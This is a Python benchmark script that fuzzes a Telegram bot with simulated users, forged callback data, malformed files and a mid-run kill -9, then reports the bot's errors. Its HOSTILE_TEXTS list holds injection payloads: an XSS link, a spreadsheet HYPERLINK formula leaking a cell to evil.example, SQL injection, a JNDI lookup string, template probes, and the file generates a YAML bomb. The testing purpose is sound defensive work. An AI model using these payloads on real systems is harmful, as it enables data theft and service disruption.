"""A long random walk over the running bot: many people tapping, typing and forging, one kill -9.

The real bot runs as production runs it — ``python -m bot`` in a subprocess, long polling over
HTTP — against the fake Bot API served from this process. A few people are set up first (the
admin from ADMIN_IDS, teachers registered through the dialogue, staff, a methodist and a mentor
through invite links the admin makes); the rest start from nothing. Then every person, all at
once, does random things one after another, each waiting for the bot's reply like a person would:

* taps a button of their newest message, or of an old one, sometimes twice in a row (a double tap);
* sends forged callback data (real data with other ids or actions, other classes, garbage);
* types hostile text (4096 characters, HTML-like ``<b>``, ``=HYPERLINK(...)``, control characters,
  emoji, right-to-left marks, an invisible character), plausible answers (names, years, dates,
  links), commands, a sticker, a photo, documents (a questionnaire, a YAML bomb, a PDF…);

and at one point the bot gets SIGKILL and is started again on the same database at once.

At the end it prints what the bot did wrong: tracebacks in its log, error answers of the Bot API
(method, description, and what the person had just done), callback queries nobody answered. It
exits 1 when there is any of these. Usage::

    python -m benchmarks walk --users 30 --actions 1500 --seed 7
    python -m benchmarks walk --users 8 --actions 300 --kill-at 150   # what tests/test_walk.py runs
"""

from __future__ import annotations

import argparse
import asyncio
import contextlib
import os
import random
import re
import signal
import sys
import tempfile
import time
from collections import Counter
from collections.abc import Iterator
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

from tests.fakes import FakeBotApiServer, FakeMessage, FakeTelegram, TgUser, tiny_png
from tests.fakes.telegram import RecordedRequest

ROOT = Path(__file__).resolve().parent.parent
TOKEN = "123456789:WALK-token-for-the-fake-bot-api-00000"
ADMIN_TG_ID = 700_000_001
FIRST_USER_TG_ID = 700_000_100
# A message the bot has taken and said nothing about for this long is taken as left unanswered.
SILENCE = 2.0

# --- what people type --------------------------------------------------------------------------

HOSTILE_TEXTS = (
    "Я" * 4096,
    "A" * 4000 + " конец",
    "<b>жирный</b> <i>курсив",
    "</b></i><a href='javascript:alert(1)'>ссылка</a>",
    "&amp; &lt; & < > &#0; &unknown;",
    '=HYPERLINK("http://evil.example/?"&A2,"Нажмите")',
    "+7 (999) 000-00-00",
    "-1",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\x01\x02\x03 управляющие символы \x7f\x1b[31m",
    "строка\nперенос\r\nи ещё\rодна",
    "😀👩‍🏫🇷🇺🙂‍↔️",
    "\u200b",
    "\u202eвперёд-назад",
    "'; DROP TABLE users; --",
    "${jndi:ldap://evil.example/a}",
    "{{7*7}} %s %d %(name)s {0}",
)
PLAUSIBLE_TEXTS = (
    "Иванова Мария Петровна",
    "Петров Пётр",
    "Ольга",
    "0",
    "2",
    "15",
    "150",
    "99999999999999999999",
    "1998",
    "1890",
    "2031",
    "30.11.2026 15:00",
    "31.02.2026 25:61",
    "01.12.2026",
    "завтра",
    "https://example.org/webinar",
    "https://example.org/a b\nc",
    "Школа № 5 на Советской",
    "Разбор ВПР по математике",
    "да",
    "Спасибо!",
)
COMMANDS = (
    "/start",
    "/menu",
    "/help",
    "/cancel",
    "/profile",
    "/mydata",
    "/roles",
    "/invite",
    "/language",
    "/unknown",
    "/start i-garbage",
    "/start@metodist_test_bot",
    "/menu extra words",
)
FORGED_GARBAGE = ("", "x" * 64, ":::", "menu:", "menu:nope", "rt:view:abc:0:0:", "ev:open:-1:x:0", "🙂" * 16)


def _yaml_bomb() -> bytes:
    lines = ['a: &a ["lol","lol","lol","lol","lol","lol","lol","lol","lol"]']
    for i, name in enumerate("bcdefghi"):
        prev = "abcdefghi"[i]
        lines.append(
            f"{name}: &{name} [*{prev},*{prev},*{prev},*{prev},*{prev},*{prev},*{prev},*{prev},*{prev}]"
        )
    return ("\n".join(lines) + "\n").encode()


def _documents() -> list[tuple[str, bytes, str]]:
    general = (ROOT / "bot/content/questionnaires/general.yaml").read_bytes()
    return [
        ("general.yaml", general.replace(b"version: 1\n", b"version: 77\n", 1), "application/x-yaml"),
        ("bomb.yaml", _yaml_bomb(), "application/x-yaml"),
        ("big.yaml", b"items:\n" + b"  - id: x\n    text: y\n" * 30_000, "application/x-yaml"),
        ("broken.yaml", b"id: [unclosed\n\t- :", "application/x-yaml"),
        ("notes.txt", 'заметки =HYPERLINK("x")\x01'.encode(), "text/plain"),
        (
            "report.pdf",
            b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n1 0 obj<<>>endobj\ntrailer<<>>\n%%EOF",
            "application/pdf",
        ),
        ("table.xlsx", os.urandom(2048), "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"),
        ("photo.png", tiny_png(4, 4), "image/png"),
    ]


SURNAMES = ("Иванова", "Петрова", "Смирнова", "Кузнецова", "Попова", "Соколова", "Лебедева", "Козлова")
NAMES = ("Анна", "Мария", "Елена", "Ольга", "Татьяна", "Наталья", "Ирина", "Светлана")
PATRONYMICS = ("Петровна", "Ивановна", "Сергеевна", "Андреевна", "Олеговна")


# --- the bot as a process ----------------------------------------------------------------------


class BotProcess:
    """``python -m bot`` on a database that outlives it; every run's log goes to one file."""

    def __init__(
        self, base_url: str, database_url: str, workdir: Path, log_path: Path, redis_url: str | None = None
    ) -> None:
        self.base_url = base_url
        self.database_url = database_url
        self.redis_url = redis_url
        self.workdir = workdir
        self.log_path = log_path
        self.proc: asyncio.subprocess.Process | None = None
        self.starts = 0

    async def start(self, fake: FakeTelegram, timeout: float = 60.0) -> None:  # noqa: ASYNC109
        keep = {k: v for k, v in os.environ.items() if k not in {"DATABASE_URL", "REDIS_URL", "ADMIN_IDS"}}
        env = {
            **keep,
            "BOT_TOKEN": TOKEN,
            "TELEGRAM_API_URL": self.base_url,
            "DATABASE_URL": self.database_url,
            "ADMIN_IDS": str(ADMIN_TG_ID),
            "PYTHONPATH": str(ROOT),
            "LOG_LEVEL": "INFO",
            **({"REDIS_URL": self.redis_url} if self.redis_url else {}),
        }
        polls = len(fake.requests_for("getUpdates"))
        with self.log_path.open("ab") as log:
            log.write(f"\n===== walk: bot start #{self.starts + 1} =====\n".encode())
            log.flush()
            self.proc = await asyncio.create_subprocess_exec(
                sys.executable, "-m", "bot", cwd=self.workdir, env=env, stdout=log, stderr=log
            )
        self.starts += 1
        deadline = time.monotonic() + timeout
        while len(fake.requests_for("getUpdates")) <= polls:
            if self.proc.returncode is not None:
                raise RuntimeError(f"the bot exited with {self.proc.returncode}; see {self.log_path}")
            if time.monotonic() > deadline:
                raise RuntimeError(
                    f"the bot did not start polling within {timeout:.0f} s; see {self.log_path}"
                )
            await asyncio.sleep(0.05)

    async def kill(self) -> None:
        """SIGKILL: no shutdown, no flush; only the database remains."""
        if self.proc is not None and self.proc.returncode is None:
            self.proc.send_signal(signal.SIGKILL)
            await self.proc.wait()

    async def stop(self, timeout: float = 30.0) -> int | None:  # noqa: ASYNC109
        if self.proc is None or self.proc.returncode is not None:
            return self.proc.returncode if self.proc else None
        self.proc.send_signal(signal.SIGTERM)
        try:
            return await asyncio.wait_for(self.proc.wait(), timeout)
        except TimeoutError:
            await self.kill()
            return None


# --- people ------------------------------------------------------------------------------------


@dataclass
class Step:
    at: float  # time.monotonic() when the person acted
    chat_id: int
    label: str


class Walker(TgUser):
    """A person who acts, then waits for the bot's reply (a message, an edit, the answer to a tap)
    and for the chat to go quiet, before acting again — or gives up after ``step_timeout``."""

    def __init__(self, walk: Walk, user_id: int, first_name: str) -> None:
        super().__init__(walk.fake, self._deliver_and_wait, user_id, first_name=first_name)
        self.walk = walk
        self.silent = 0

    async def _deliver_and_wait(self, update: dict[str, Any]) -> None:
        # People read before they tap (and the bot throttles anyone faster than about two a second).
        await asyncio.sleep(self.walk.think())
        await self.walk.bot_up.wait()
        fake = self.walk.fake
        mark = len(fake.requests)
        callback = update.get("callback_query")
        # Telegram numbers updates as they arrive: one made before the pause must not arrive with an
        # id below what the bot has already confirmed (it would never be delivered).
        update["update_id"] = fake.new_update_id()
        update_id = fake.push_update(update)
        if callback is not None:
            self.walk.callback_updates[callback["id"]] = update_id
        loop = asyncio.get_running_loop()
        deadline = loop.time() + self.walk.step_timeout
        seen = 0
        quiet_since = loop.time()
        while loop.time() < deadline:
            await asyncio.sleep(0.04)
            mine = sum(1 for r in fake.requests[mark:] if self._concerns_me(r))
            if mine != seen:
                seen, quiet_since = mine, loop.time()
                continue
            quiet = loop.time() - quiet_since
            if callback is not None:
                if fake.callback(callback["id"]).answered and quiet >= self.walk.quiet:
                    return
            elif seen and quiet >= self.walk.quiet:
                return
            elif fake.is_processed(update_id) and quiet >= SILENCE:
                break  # taken, and nothing came back: a message the bot let pass (a throttled one)
        self.silent += 1

    def _concerns_me(self, request: RecordedRequest) -> bool:
        if request.params.get("chat_id") == self.chat_id:
            return True
        if request.method == "answerCallbackQuery":
            callback_id = str(request.params.get("callback_query_id"))
            record = self.walk.fake._callbacks_by_id.get(callback_id)
            return record is not None and record.user_id == self.id
        return False

    def note(self, label: str) -> None:
        self.walk.steps.append(Step(time.monotonic(), self.chat_id, label))

    # --- the random actions

    def _keyboard_messages(self) -> list[FakeMessage]:
        return [m for m in self.messages if any("callback_data" in b for b in m.inline_buttons)]

    async def tap(self, message: FakeMessage, *, label: str, twice: bool = False) -> None:
        buttons = [b for b in message.inline_buttons if "callback_data" in b]
        button = self.walk.rng.choice(buttons)
        data = str(button["callback_data"])
        self.note(f"{label} «{button.get('text')}» ({data})")
        if twice:
            first = self.fake.make_callback_update(self.user, message, data)
            self.walk.callback_updates[first["callback_query"]["id"]] = self.fake.push_update(first)
        await self._send_callback(message, data, expect_answer=False, label=label)

    async def act(self) -> None:
        rng = self.walk.rng
        kinds = (
            "tap",
            "tap_old",
            "reply_keyboard",
            "forge",
            "hostile",
            "plausible",
            "command",
            "media",
            "double",
        )
        weights = (44, 7, 5, 6, 8, 9, 10, 5, 6)
        kind = rng.choices(kinds, weights)[0]
        keyboards = self._keyboard_messages()
        if kind in {"tap", "double", "tap_old"} and keyboards:
            message = keyboards[-1] if kind != "tap_old" else rng.choice(keyboards)
            await self.tap(
                message,
                label={"tap": "tapped", "double": "double-tapped", "tap_old": "tapped an old"}[kind],
                twice=kind == "double",
            )
        elif kind == "reply_keyboard" and self.reply_keyboard:
            text = rng.choice(self.reply_keyboard)
            self.note(f"pressed the reply button «{text}»")
            await self.send(text)
        elif kind == "forge" and (self.messages or keyboards):
            data = self.walk.forged_data()
            self.note(f"forged callback data {data!r}")
            target = keyboards[-1] if keyboards else self.messages[-1]
            await self._send_callback(target, data, expect_answer=False, label="forged")
        elif kind == "hostile":
            text = rng.choice(HOSTILE_TEXTS)
            self.note(f"typed hostile text {text[:40]!r}{'…' if len(text) > 40 else ''}")
            await self.send(text)
        elif kind == "media":
            await self.send_media()
        elif kind == "command" or not keyboards:
            text = rng.choice(COMMANDS)
            self.note(f"typed {text!r}")
            await self.send(text)
        else:
            text = rng.choice(PLAUSIBLE_TEXTS)
            self.note(f"typed {text[:40]!r}")
            await self.send(text)

    async def send_media(self) -> None:
        rng = self.walk.rng
        choice = rng.randrange(4)
        if choice == 0:
            self.note("sent a sticker")
            await self.send_sticker()
        elif choice == 1:
            self.note("sent a photo")
            await self.send_photo(tiny_png(3, 2), caption=rng.choice((None, "<b>фото</b>", "=1+1")))
        else:
            name, content, mime = rng.choice(self.walk.documents)
            self.note(f"sent the document {name}")
            await self.send_document(name, content, mime, caption=rng.choice((None, "отчёт", "\x01")))


# --- the walk ----------------------------------------------------------------------------------


@dataclass
class ApiError:
    method: str
    code: int | str
    description: str
    cause: str  # what the person had just done


@dataclass
class WalkReport:
    actions: int = 0
    setup_problems: list[str] = field(default_factory=list)
    tracebacks: Counter[str] = field(default_factory=Counter)
    error_lines: Counter[str] = field(default_factory=Counter)
    api_errors: list[ApiError] = field(default_factory=list)
    unanswered: list[str] = field(default_factory=list)
    lost_in_kill: list[str] = field(default_factory=list)
    silent: int = 0
    kills: int = 0
    seconds: float = 0.0
    phases: dict[str, float] = field(default_factory=dict)  # seconds: start, setup, walk, restart

    @property
    def failed(self) -> bool:
        return bool(self.tracebacks or self.api_errors or self.unanswered)

    def render(self) -> str:
        lines = [
            f"actions: {self.actions} in {self.seconds:.0f} s "
            f"({', '.join(f'{k} {v:.0f} s' for k, v in self.phases.items())}); kill -9: {self.kills}; "
            f"steps without a reply within the timeout: {self.silent}"
        ]
        lines += [f"setup: {p}" for p in self.setup_problems]
        lines.append(f"tracebacks in the bot's log: {sum(self.tracebacks.values())}")
        for block, count in self.tracebacks.most_common():
            lines.append(f"--- ×{count}\n{block}")
        if self.error_lines:
            lines.append(f"other ERROR lines in the log: {sum(self.error_lines.values())}")
            lines += [f"  ×{count} {line}" for line, count in self.error_lines.most_common()]
        lines.append(f"Bot API errors: {len(self.api_errors)}")
        grouped: dict[tuple[str, str], list[ApiError]] = {}
        for error in self.api_errors:
            grouped.setdefault((error.method, f"{error.code} {error.description}"), []).append(error)
        for (method, description), errors in sorted(grouped.items(), key=lambda kv: -len(kv[1])):
            lines.append(f"  ×{len(errors)} {method}: {description}")
            # By the screen the person was on: callback data up to the ids, or what they typed.
            screens: dict[str, list[ApiError]] = {}
            for error in errors:
                screens.setdefault(_screen(error.cause), []).append(error)
            for screen, same in sorted(screens.items(), key=lambda kv: -len(kv[1])):
                lines.append(f"      ×{len(same)} {screen}, e.g. after {same[0].cause}")
        lines.append(f"callback queries left unanswered: {len(self.unanswered)}")
        lines += [f"  {u}" for u in self.unanswered]
        if self.lost_in_kill:
            lines.append(
                f"callback queries in flight at the kill -9, never answered or answered after "
                f"Telegram's 15 s (not counted as failures): {len(self.lost_in_kill)}"
            )
            lines += [f"  {u}" for u in self.lost_in_kill]
        lines.append("FAILED" if self.failed else "OK")
        return "\n".join(lines)


@dataclass
class Walk:
    users: int = 30
    actions: int = 1500
    seed: int = 1
    kill_at: int | None = None  # None: somewhere in the middle; a negative number: never
    step_timeout: float = 15.0
    quiet: float = 0.1
    setup_think: float = 0.35
    think_range: tuple[float, float] = (0.1, 0.7)  # seconds a person pauses before each action
    workdir: Path | None = None
    database_url: str | None = None
    redis_url: str | None = None
    fake: FakeTelegram = field(init=False)
    rng: random.Random = field(init=False)
    steps: list[Step] = field(default_factory=list)
    callback_updates: dict[str, int] = field(default_factory=dict)  # callback query id -> update id
    documents: list[tuple[str, bytes, str]] = field(default_factory=_documents)
    _done: int = 0
    _killed_at: tuple[float, float] | None = None  # monotonic: kill, polling again
    _walking: bool = False
    bot_up: asyncio.Event = field(default_factory=asyncio.Event)

    def __post_init__(self) -> None:
        self._started = time.monotonic()
        self.rng = random.Random(self.seed)
        self.fake = FakeTelegram(bot_id=int(TOKEN.split(":")[0]))
        if self.kill_at is None:
            self.kill_at = self.rng.randrange(
                self.actions // 3, max(self.actions // 3 + 1, 2 * self.actions // 3)
            )

    def think(self) -> float:
        return self.rng.uniform(*self.think_range) if self._walking else self.setup_think

    def forged_data(self) -> str:
        rng = self.rng
        seen = [str(b["callback_data"]) for r in self.fake.requests[-400:] for b in _buttons(r)]
        if not seen or rng.random() < 0.15:
            return rng.choice(FORGED_GARBAGE)
        parts = rng.choice(seen).split(":")
        if rng.random() < 0.5:
            # Another id: someone else's object, a deleted one, a huge one.
            numeric = [i for i, p in enumerate(parts) if p.isdigit()]
            for i in numeric or [len(parts) - 1]:
                parts[i] = str(rng.choice((0, 1, 2, 3, 5, 8, 13, 99, 2**31, rng.randrange(1, 60))))
        else:
            # Another action or field value of the same prefix.
            same = [s.split(":") for s in seen if s.split(":")[0] == parts[0]]
            donor = rng.choice(same)
            if len(donor) > 1 and len(parts) > 1:
                parts[1] = donor[1]
        data = ":".join(parts)
        return data if len(data.encode()) <= 64 else data[:64]

    async def run(self) -> WalkReport:
        report = WalkReport()
        started = time.monotonic()
        with contextlib.ExitStack() as stack:
            workdir = self.workdir or Path(stack.enter_context(tempfile.TemporaryDirectory(prefix="walk-")))
            database_url = self.database_url or f"sqlite+aiosqlite:///{workdir / 'walk.db'}"
            log_path = workdir / "bot.log"
            log_path.write_bytes(b"")
            for old in workdir.glob("walk.db*"):
                old.unlink()
            server = FakeBotApiServer(self.fake)
            base_url = await server.start()
            bot = BotProcess(base_url, database_url, workdir, log_path, self.redis_url)
            people: list[Walker] = []
            try:
                await bot.start(self.fake)
                self.bot_up.set()
                report.phases["start"] = time.monotonic() - started
                people = await self._setup(report)
                report.phases["setup"] = time.monotonic() - started - report.phases["start"]
                self._walking = True
                walking = time.monotonic()
                await asyncio.gather(*(self._person(p, bot, report) for p in people))
                report.phases["walk"] = time.monotonic() - walking
                if self._killed_at is not None:
                    report.phases["of which the restart"] = self._killed_at[1] - self._killed_at[0]
                await self._settle()
                code = await bot.stop()
                if code not in (0, None):
                    report.setup_problems.append(f"the bot exited with code {code} on SIGTERM")
            finally:
                await bot.kill()
                await server.stop()
            report.actions = self._done
            report.kills = max(0, bot.starts - 1)
            report.silent = sum(p.silent for p in people)
            report.seconds = time.monotonic() - started
            log = log_path.read_text(encoding="utf-8", errors="replace")
            self._read_log(log, report)
            self._api_errors(report)
            self._unanswered(report, log)
        return report

    async def _person(self, person: Walker, bot: BotProcess, report: WalkReport) -> None:
        while self._done < self.actions:
            index = self._done
            self._done += 1
            if index == self.kill_at:
                await self._kill_and_restart(bot)
            try:
                await person.act()
            except AssertionError as exc:  # a click the fake refused (a deleted message…): carry on
                person.note(f"(could not act: {str(exc)[:80]})")

    async def _kill_and_restart(self, bot: BotProcess) -> None:
        # Nobody acts while the bot is down: a restart slower than Telegram's 15 s for a callback
        # answer is the machine's doing, not the bot's. What was in flight at the kill stays queued.
        self.bot_up.clear()
        killed = time.monotonic()
        await bot.kill()
        await bot.start(self.fake)
        self._killed_at = (killed, time.monotonic())
        self.bot_up.set()

    async def _settle(self, timeout: float = 20.0) -> None:  # noqa: ASYNC109
        """Until the bot has taken every update and answered every press it can still answer."""
        deadline = time.monotonic() + timeout
        while time.monotonic() < deadline:
            pending = self.fake.pending_updates
            waiting = [
                c
                for c in self.fake.unanswered_callbacks()
                if time.monotonic() - c.created_at < self.fake.callback_timeout
            ]
            if not pending and not waiting:
                break
            await asyncio.sleep(0.2)
        await asyncio.sleep(1.0)

    # --- setting the scene: the admin, teachers, staff and others by invite

    async def _setup(self, report: WalkReport) -> list[Walker]:
        # The admin (ADMIN_IDS) needs no profile to make invites; they may register later, at random.
        admin = Walker(self, ADMIN_TG_ID, "Админ")
        people = [admin]
        for n in range(self.users):
            people.append(Walker(self, FIRST_USER_TG_ID + n, self.rng.choice(NAMES)))
        others = people[1:]
        roles = [
            ("сотрудник методической службы", "Весь регион"),
            ("сотрудник методической службы", "г. Кострома"),
            ("методист", "г. Кострома"),
            ("наставник", None),
        ]
        registrations = []
        for person, (role, scope) in zip(others, roles, strict=False):
            code = await self._scripted(
                report, f"an invite for {role} ({scope})", self._invite(admin, role, scope)
            )
            if isinstance(code, str):
                registrations.append(
                    self._scripted(report, f"{role} registers", self._register(person, 1, f"/start {code}"))
                )
        # Most of the rest register as teachers (some young specialists); a few start from nothing.
        for i, person in enumerate(others[len(roles) :]):
            if i % 5 != 4:
                registrations.append(self._scripted(report, "a teacher registers", self._register(person, i)))
        await asyncio.gather(*registrations)
        return people

    async def _scripted(self, report: WalkReport, what: str, step: Any) -> Any:
        try:
            return await step
        except AssertionError as exc:
            report.setup_problems.append(f"{what}: {str(exc)[:300]}")
            return None

    async def _register(self, person: Walker, n: int, start: str = "/start") -> None:
        from tests.flows import register

        name = f"{self.rng.choice(SURNAMES)} {person.first_name} {self.rng.choice(PATRONYMICS)}"
        young = n % 3 == 0
        await register(
            person,
            name=name,
            experience="1" if young else str(5 + n % 20),
            birth_year="2001" if young else str(1970 + n % 20),
            start=start,
        )

    async def _invite(self, admin: Walker, role: str, scope: str | None) -> str:
        await admin.send("/invite")
        await admin.click(role)
        if scope is not None:
            await admin.click(scope)
        await admin.click("5 человек")
        await admin.click("7 дней")
        match = re.search(r"\?start=(i-[\w-]+)", admin.last_message.text or "")
        assert match, f"no invite link in {admin.last_message.text!r}"
        return match.group(1)

    # --- what went wrong

    def _cause(self, chat_id: int | None, at: float) -> str:
        for step in reversed(self.steps):
            if step.chat_id == chat_id and step.at <= at:
                return f"{chat_id}: {step.label}"
        return f"{chat_id}: (during setup or on the bot's own initiative)"

    def _in_kill(self, at: float) -> bool:
        return self._killed_at is not None and self._killed_at[0] - 5 <= at <= self._killed_at[1]

    def _api_errors(self, report: WalkReport) -> None:
        for request in self.fake.error_responses():
            chat_id = request.params.get("chat_id")
            at = request.timestamp
            if request.method == "answerCallbackQuery":
                record = self.fake._callbacks_by_id.get(str(request.params.get("callback_query_id")))
                if record is not None:
                    chat_id, at = record.chat_id, record.created_at
                    if self._in_kill(at) and "too old" in (request.description or ""):
                        report.lost_in_kill.append(f"answered too late: {self._cause(chat_id, at)}")
                        continue
            cause = self._cause(chat_id if isinstance(chat_id, int) else None, at)
            report.api_errors.append(
                ApiError(request.method, request.outcome, request.description or "", cause)
            )

    def _unanswered(self, report: WalkReport, log: str) -> None:
        late = {
            str(r.params.get("callback_query_id"))
            for r in self.fake.error_responses()
            if r.method == "answerCallbackQuery"
        }
        for record in self.fake.unanswered_callbacks():
            if record.id in late:
                continue  # listed with the Bot API errors (or as in flight at the kill)
            update_id = self.callback_updates.get(record.id)
            handled = update_id is not None and f"Update id={update_id} is handled" in log
            line = (
                f"{record.data!r} from {self._cause(record.chat_id, record.created_at)} "
                f"[update {update_id}, {'handled' if handled else 'never handled'} by the bot, "
                f"pressed {record.created_at - self._started:.1f} s into the walk]"
            )
            if self._in_kill(record.created_at):
                report.lost_in_kill.append(line)
            else:
                report.unanswered.append(line)

    @staticmethod
    def _read_log(log: str, report: WalkReport) -> None:
        for block in _traceback_blocks(log):
            report.tracebacks[block] += 1
        for line in log.splitlines():
            if " ERROR " in line and "Traceback" not in line:
                report.error_lines[re.sub(r"^\S+ \S+ ", "", line)[:300]] += 1


def _screen(cause: str) -> str:
    """What kind of step a cause was: `prefix:action` of the button, or the kind of step."""
    data = re.search(r"\(([a-z]+:[^:()]*)[^()]*\)$", cause)
    if data:
        kind = "double tap" if "double-tapped" in cause else "tap"
        return f"{kind} {data.group(1)}"
    return re.sub(r"^\d+: ", "", cause)[:60]


def _buttons(request: RecordedRequest) -> Iterator[dict[str, Any]]:
    markup = request.params.get("reply_markup")
    if isinstance(markup, dict):
        for row in markup.get("inline_keyboard") or []:
            for button in row:
                if isinstance(button, dict) and "callback_data" in button:
                    yield button


def _traceback_blocks(log: str) -> Iterator[str]:
    """Each traceback with the log line before it, ids and times taken out so equal ones group."""
    lines = log.splitlines()
    i = 0
    while i < len(lines):
        if lines[i].startswith("Traceback (most recent call last)"):
            start = i
            i += 1
            while i < len(lines) and (
                lines[i].startswith((" ", "\t"))
                or lines[i].startswith(("Traceback", "During handling", "The above exception"))
                or not lines[i].strip()
                or not re.match(r"^\d{4}-\d\d-\d\d ", lines[i])
            ):
                i += 1
            context = lines[start - 1] if start > 0 else ""
            body = lines[start:i]
            tail = body[-14:] if len(body) > 14 else body
            text = "\n".join([re.sub(r"^\S+ \S+ ", "", context), *(["  …"] if len(body) > 14 else []), *tail])
            yield re.sub(r"\b\d{6,}\b", "N", text)
        else:
            i += 1


# --- the command line --------------------------------------------------------------------------


def add_arguments(parser: argparse.ArgumentParser) -> None:
    parser.add_argument("--users", type=int, default=30, help="simulated people besides the admin (30)")
    parser.add_argument("--actions", type=int, default=1500, help="random actions in all (1500)")
    parser.add_argument("--seed", type=int, default=1, help="the random seed (1)")
    parser.add_argument(
        "--kill-at",
        type=int,
        default=None,
        help="kill -9 before this action (default: random, mid-walk; -1: never)",
    )
    parser.add_argument(
        "--database-url",
        default=None,
        help="an empty database (default: a SQLite file in a temporary directory)",
    )
    parser.add_argument("--redis-url", default=None, help="FSM storage in Redis (an empty database)")
    parser.add_argument(
        "--keep", type=Path, default=None, help="a directory to keep the database and bot.log in"
    )


def main(args: argparse.Namespace) -> int:
    if args.keep is not None:
        args.keep.mkdir(parents=True, exist_ok=True)
    walk = Walk(
        users=args.users,
        actions=args.actions,
        seed=args.seed,
        kill_at=args.kill_at,
        workdir=args.keep,
        database_url=args.database_url,
        redis_url=args.redis_url,
    )
    print(
        f"walk: {args.users} people + the admin, {args.actions} actions, seed {args.seed}, "
        f"kill -9 before action {walk.kill_at}"
    )
    report = asyncio.run(walk.run())
    print(report.render())
    return 1 if report.failed else 0
